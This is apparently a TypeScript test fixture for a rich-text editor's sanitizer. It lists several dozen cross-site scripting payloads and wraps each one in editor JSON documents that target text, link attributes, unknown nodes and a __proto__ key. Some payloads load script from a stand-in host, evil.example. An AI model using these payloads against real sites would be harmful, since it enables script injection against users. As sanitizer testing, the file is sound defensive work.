/**
 * Attack strings and the documents that carry them, shared by the unit test (xss.test.ts, happy-dom)
 * and the end-to-end test (real Chromium). Data only: no DOM or Tiptap import, so either can load it.
 */

export const XSS_PAYLOADS: string[] = [
  // Script elements
  '<script>alert(1)</script>',
  '<ScRiPt>alert(1)</sCrIpT>',
  '<script src=//evil.example/x.js></script>',
  '"><script>alert(1)</script>',
  "'><script>alert(1)</script>",
  '</p><script>alert(1)</script><p>',
  '</script><script>alert(1)</script>',
  '<template><script>alert(1)</script></template>',
  '\u2028<script>alert(1)</script>',
  // Event handlers
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(1)"/>',
  "<IMG SRC=JaVaScRiPt:alert('XSS')>",
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>',
  '<body onload=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<video><source onerror="alert(1)">',
  '<marquee onstart=alert(1)>',
  '<form><button formaction=javascript:alert(1)>X</button></form>',
  // Embedding and document-level elements
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
  '<link rel=stylesheet href=data:,*%7bx:expression(alert(1))%7d>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="javascript:alert(1)//">',
  '<div style="background:url(javascript:alert(1))">x</div>',
  // Mutation XSS: parser context switches (noscript, style, math, comments, raw-text elements)
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<style><img src="</style><img src=x onerror=alert(1)//">',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<math href="javascript:alert(1)">CLICK</math>',
  '<math><mi xlink:href="data:x,<script>alert(1)</script>">',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
  '<textarea><p title="</textarea><img src=x onerror=alert(1)>">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="&#x6A;avascript:alert(1)">x</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  // Dangerous schemes with case, whitespace and control-character tricks
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  ' javascript:alert(1)',
  '\tjavascript:alert(1)',
  'java\tscript:alert(1)',
  'java\nscript:alert(1)',
  'java\u0000script:alert(1)',
  '\u0001javascript:alert(1)',
  '\uFEFFjavascript:alert(1)',
  'java\u200Bscript:alert(1)',
  'javascript://%0aalert(1)',
  // Entity, percent and unicode-escape encodings of the scheme
  'javascript&colon;alert(1)',
  '&#106;avascript:alert(1)',
  '&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)',
  '&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)',
  'javascript%3Aalert(1)',
  '%6A%61%76%61%73%63%72%69%70%74%3Aalert(1)',
  '\\u006Aavascript:alert(1)',
  '\\x6Aavascript:alert(1)',
  '\uFF4A\uFF41\uFF56\uFF41\uFF53\uFF43\uFF52\uFF49\uFF50\uFF54:alert(1)',
  // data: and vbscript:
  'data:text/html,<script>alert(1)</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'DATA:text/html,<script>alert(1)</script>',
  ' data:image/svg+xml,<svg onload=alert(1)>',
  'vbscript:msgbox("XSS")',
  'VBScript:MsgBox(1)',
  // Relative, protocol-relative and deceptive URLs
  '//evil.example/x',
  '/\\evil.example',
  'https:\\\\evil.example',
  'https://good.example@evil.example/',
  'http://example.org/" onmouseover="alert(1)',
  'https://example.org/"><script>alert(1)</script>',
  'https://example.org/#<img src=x onerror=alert(1)>',
  'mailto:x@example.org?body=<script>alert(1)</script>',
  // Attribute and template-literal breakouts
  '" onclick="alert(1)',
  "' onclick='alert(1)",
  '${alert(1)}',
  '`-alert(1)-`',
  "';alert(1)//",
  "{{constructor.constructor('alert(1)')()}}",
];

const text = (value: string, marks?: unknown[]) => (marks ? { type: 'text', text: value, marks } : { type: 'text', text: value });
const paragraph = (...content: unknown[]) => ({ type: 'paragraph', content });
const doc = (...content: unknown[]) => ({ type: 'doc', content });
const linked = (href: string, extra: Record<string, unknown> = {}) =>
  doc(paragraph(text('click me', [{ type: 'link', attrs: { href, ...extra } }])));

/**
 * Documents that smuggle `payload` in through every door the JSON has: text, heading text, link hrefs
 * (bare, after a safe origin, in mailto), the other link attributes, unknown node and mark types, stray
 * attributes and keys, a `__proto__` key. The first document is always the payload as plain paragraph text.
 */
export function payloadDocuments(payload: string): unknown[] {
  return [
    // As text: must come out escaped, never as markup.
    doc(paragraph(text(payload))),
    doc({ type: 'heading', attrs: { level: 2 }, content: [text(payload)] }),
    doc({ type: 'blockquote', content: [{ type: 'bulletList', content: [{ type: 'listItem', content: [paragraph(text(payload, [{ type: 'bold' }]))] }] }] }),
    // As a link target.
    linked(payload),
    linked(payload, { target: '_blank', rel: 'noopener noreferrer nofollow', class: null, title: null }),
    linked(`https://example.org/${payload}`),
    linked(`https://example.org/?q=${payload}`),
    linked(`https://example.org/#${payload}`),
    linked(`mailto:${payload}`),
    linked(`mailto:someone@example.org?subject=${payload}`),
    // In the link attributes that are dropped.
    linked('https://example.org/', { target: payload, rel: payload, class: payload, title: payload }),
    // As a mark the schema does not know, or a mark type named by the payload.
    doc(paragraph(text('click me', [{ type: 'a', attrs: { href: payload } }]))),
    doc(paragraph(text('click me', [{ type: 'link', attrs: { href: 'https://example.org/', onclick: payload } }]))),
    doc(paragraph(text('x', [{ type: payload }]))),
    // As an unknown node carrying raw HTML.
    doc({ type: 'html', attrs: { html: payload } }),
    doc(paragraph({ type: 'html', text: payload })),
    doc({ type: 'codeBlock', content: [text(payload)] }),
    doc(paragraph({ type: 'image', attrs: { src: payload, alt: payload } })),
    doc({ type: payload, content: [text('x')] }),
    // As attributes or keys where none are allowed.
    doc({ type: 'paragraph', attrs: { onclick: payload }, content: [text('x')] }),
    doc({ type: 'heading', attrs: { level: 2, onclick: payload }, content: [text('x')] }),
    doc({ type: 'heading', attrs: { level: payload }, content: [text('x')] }),
    doc({ type: 'orderedList', attrs: { start: payload, type: payload }, content: [{ type: 'listItem', content: [paragraph(text('x'))] }] }),
    doc(paragraph(text('x'), { type: 'hardBreak', attrs: { onclick: payload } })),
    doc({ type: 'paragraph', style: payload, content: [text('x')] }),
    doc({ type: 'paragraph', text: payload }),
    { type: 'doc', attrs: { onload: payload }, content: [paragraph(text('x'))] },
    // Structure out of place: a list item outside a list.
    doc({ type: 'listItem', content: [paragraph(text(payload))] }),
    // A __proto__ key as JSON.parse produces it (an own property, not the prototype).
    JSON.parse(
      `{"type":"doc","content":[{"type":"paragraph","__proto__":{"attrs":{"onclick":${JSON.stringify(payload)}}},"content":[{"type":"text","text":"x"}]}]}`,
    ),
  ];
}
